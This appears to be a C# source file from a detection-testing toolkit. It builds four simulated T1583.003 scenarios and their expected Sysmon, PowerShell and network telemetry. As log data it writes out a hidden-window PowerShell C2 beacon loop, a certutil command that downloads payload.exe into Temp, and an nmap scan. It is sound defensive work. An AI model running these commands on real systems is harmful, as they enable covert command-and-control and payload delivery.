using System.Globalization;
using System.Net;
using System.Text.Json;

namespace DetectionKit.CommandLine.Validation;

/// <summary>The four validation tests of T1583.003, as the Atomic Red Team's method has them, and the logs that they leave.</summary>
internal static class VirtualPrivateServerTests
{
    private const string Guid = "{39e4a257-dddf-5f8b-4e1b-00000000040";
    private const string PowerShell = @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    private const string Certutil = @"C:\Windows\System32\certutil.exe";
    private const string User = @"CORP\ann";
    private static readonly DateTimeOffset s_start = new(2026, 3, 2, 9, 0, 0, TimeSpan.Zero);
    private static readonly int[] s_ports = [22, 80, 443, 3389, 8080, 8443];

    /// <summary>The tests.</summary>
    /// <param name="target">The address that plays the server.</param>
    internal static IReadOnlyList<ValidationScenario> Of(IPAddress target) => [CheckIn(target), Download(target), Scan(target), SignInFromServer(target)];

    private static ValidationScenario CheckIn(IPAddress target)
    {
        const string Command = "powershell.exe -WindowStyle Hidden -Command \"1..15 | % { Invoke-WebRequest http://TARGET:8443/; Start-Sleep 5 }\"";
        var command = Command.Replace("TARGET", target.ToString(), StringComparison.Ordinal);
        return new(
            1,
            "Simulate C2 beacon by PowerShell HTTP check-in",
            Logs(("windows.ndjson", [
                Sysmon(1, 0, 1, ("Image", PowerShell), ("CommandLine", command), ("User", User)),
                Script(1, "1..15 | % { Invoke-WebRequest http://" + target + ":8443/ }"),
                .. Enumerable.Range(0, 15).Select(i => Connection(2 + (i * 5), 1, PowerShell, target.ToString(), 8443)),
            ])),
            [
                ExpectedTelemetry.Of<ProcessStart>("Sysmon 1, powershell.exe with -WindowStyle Hidden and Invoke-WebRequest", 1, s => Has(s.CommandLine, "-WindowStyle Hidden") && Has(s.CommandLine, "Invoke-WebRequest")),
                ExpectedTelemetry.Of<NetworkConnection>($"Sysmon 3, powershell.exe to {target}:8443", 15, c => Has(c.Image, "powershell.exe") && c.RemoteAddress.Equals(target) && c.RemotePort == 8443),
                ExpectedTelemetry.Of<ScriptBlock>("PowerShell 4104 with Invoke-WebRequest", 1, s => Has(s.Text, "Invoke-WebRequest")),
            ],
            "vps-beaconing",
            IPAddress.IsLoopback(target) ? 0 : 1,
            IPAddress.IsLoopback(target)
                ? "The rule leaves loopback out, as the reference query does: on the test as it is written, against 127.0.0.1, it can't fire."
                : "As it is written the test calls 127.0.0.1, which the rule leaves out, as the reference query does: there it can't fire. Give --target 127.0.0.1 to see it.");
    }

    private static ValidationScenario Download(IPAddress target)
    {
        var command = $@"certutil.exe -urlcache -f http://{target}:8080/payload.exe C:\Users\ann\AppData\Local\Temp\df00tech-vps-test.exe";
        return new(
            2,
            "Simulate payload download by certutil",
            Logs(("windows.ndjson", [
                Sysmon(1, 0, 2, ("Image", Certutil), ("CommandLine", command), ("User", User)),
                Line(("EventID", 4688), ("Channel", "Security"), ("@timestamp", At(0)), ("Hostname", "WS-1"), ("SubjectUserName", "ann"), ("SubjectDomainName", "CORP"), ("NewProcessId", "0x1f4"), ("NewProcessName", Certutil), ("CommandLine", command)),
                Connection(1, 2, Certutil, target.ToString(), 8080),
                Sysmon(11, 2, 2, ("Image", Certutil), ("TargetFilename", @"C:\Users\ann\AppData\Local\Temp\df00tech-vps-test.exe"), ("User", User)),
            ])),
            [
                ExpectedTelemetry.Of<ProcessStart>("Sysmon 1 and Security 4688, certutil.exe with -urlcache and -f", 2, s => Has(s.Image, "certutil.exe") && Has(s.CommandLine, "-urlcache -f")),
                ExpectedTelemetry.Of<NetworkConnection>($"Sysmon 3, certutil.exe to {target}:8080", 1, c => Has(c.Image, "certutil.exe") && c.RemoteAddress.Equals(target) && c.RemotePort == 8080),
                ExpectedTelemetry.Of<FileCreated>("Sysmon 11, df00tech-vps-test.exe", 1, f => f.Path.EndsWith("df00tech-vps-test.exe", StringComparison.Ordinal)),
            ],
            "vps-payload-download",
            IPAddress.IsLoopback(target) ? 0 : 1,
            IPAddress.IsLoopback(target) ? "The rule leaves loopback out." : null);
    }

    private static ValidationScenario Scan(IPAddress target) => new(
        3,
        "Simulate reconnaissance by nmap",
        Logs(
            ("audit.log", [
                "node=scanner type=SYSCALL msg=audit(1772442000.100:501): arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=900 pid=901 auid=1000 uid=0 comm=\"nmap\" exe=\"/usr/bin/nmap\" key=(null)",
                "node=scanner type=EXECVE msg=audit(1772442000.100:501): argc=5 a0=\"nmap\" a1=\"-sS\" a2=\"-p\" a3=\"22,80,443,3389,8080,8443\" a4=\"198.51.100.1\"",
            ]),
            ("conn.log", [.. s_ports.Select((port, i) => Line(
                ("ts", 1772442000 + i), ("uid", "C" + port), ("id.orig_h", target.ToString()), ("id.orig_p", 50000 + i), ("id.resp_h", "198.51.100.1"), ("id.resp_p", port), ("proto", "tcp"), ("conn_state", "S0")))])),
        [
            ExpectedTelemetry.Of<ProcessStart>("auditd execve of nmap with its arguments", 1, s => Has(s.Image, "nmap") && Has(s.CommandLine, "22,80,443,3389,8080,8443")),
            ExpectedTelemetry.Of<NetworkFlow>("SYNs to 22, 80, 443, 3389, 8080 and 8443 that nothing answers", 6, f => f.IsAnswered == false && s_ports.Contains(f.RemotePort)),
        ],
        "vps-inbound-scan",
        IPAddress.IsLoopback(target) ? 1 : 2,
        IPAddress.IsLoopback(target) ? "nmap's start is told of; the rule leaves scans from loopback out, unless ExcludedSources is emptied." : "A record of syslog is no telemetry that is read here.");

    private static ValidationScenario SignInFromServer(IPAddress target) => new(
        4,
        "Simulate sign-in by Graph from a server",
        Logs(
            ("windows.ndjson", [
                Sysmon(1, 0, 4, ("Image", PowerShell), ("CommandLine", "powershell.exe -Command Connect-MgGraph"), ("User", User)),
                Sysmon(22, 1, 4, ("Image", PowerShell), ("QueryName", "login.microsoftonline.com")),
                Connection(2, 4, PowerShell, "20.190.159.2", 443),
                Script(3, "Invoke-RestMethod https://login.microsoftonline.com/common/oauth2/v2.0/token"),
            ]),
            ("signins.json", [
                $$$"""{"createdDateTime":"{{{At(4)}}}","userPrincipalName":"ann@example.com","appDisplayName":"Microsoft Graph","ipAddress":"{{{target}}}","clientAppUsed":"Mobile Apps and Desktop clients","autonomousSystemNumber":14061,"status":{"errorCode":0},"location":{"countryOrRegion":"NL"}}""",
            ])),
        [
            ExpectedTelemetry.Of<ProcessStart>("Sysmon 1, powershell.exe", 1, s => Has(s.Image, "powershell.exe")),
            ExpectedTelemetry.Of<DnsQuery>("Sysmon 22, login.microsoftonline.com", 1, q => q.Name == "login.microsoftonline.com"),
            ExpectedTelemetry.Of<NetworkConnection>("Sysmon 3, powershell.exe to port 443", 1, c => Has(c.Image, "powershell.exe") && c.RemotePort == 443),
            ExpectedTelemetry.Of<ScriptBlock>("PowerShell 4104", 1, s => Has(s.Text, "login.microsoftonline.com")),
            ExpectedTelemetry.Of<SignInAttempt>("Entra ID sign-in", 1, s => s.IsSuccess),
        ],
        "vps-signin",
        1,
        null);

    private static bool Has(string? text, string part) => text?.Contains(part, StringComparison.OrdinalIgnoreCase) == true;

    private static string At(double seconds) => s_start.AddSeconds(seconds).ToString("yyyy-MM-ddTHH:mm:ss.fffZ", CultureInfo.InvariantCulture);

    private static string Connection(double at, int process, string image, string address, int port) =>
        Sysmon(3, at, process, ("Image", image), ("User", User), ("Initiated", "true"), ("DestinationIp", address), ("DestinationPort", port.ToString(CultureInfo.InvariantCulture)));

    private static string Script(double at, string text) => Line(
        ("EventID", 4104), ("Channel", "Microsoft-Windows-PowerShell/Operational"), ("@timestamp", At(at)), ("Hostname", "WS-1"), ("ScriptBlockId", "s"), ("ScriptBlockText", text), ("MessageNumber", "1"), ("MessageTotal", "1"));

    private static string Sysmon(int id, double at, int process, params (string Name, object Value)[] data) => Line([
        ("EventID", id), ("Channel", "Microsoft-Windows-Sysmon/Operational"), ("@timestamp", At(at)), ("UtcTime", At(at)), ("Hostname", "WS-1"), ("ProcessGuid", $"{Guid}{process}}}"), .. data,
    ]);

    private static string Line(params (string Name, object Value)[] fields) => JsonSerializer.Serialize(fields.ToDictionary(field => field.Name, field => field.Value));

    private static Dictionary<string, IReadOnlyList<string>> Logs(params (string Name, IReadOnlyList<string> Lines)[] logs) => logs.ToDictionary(log => log.Name, log => log.Lines);
}
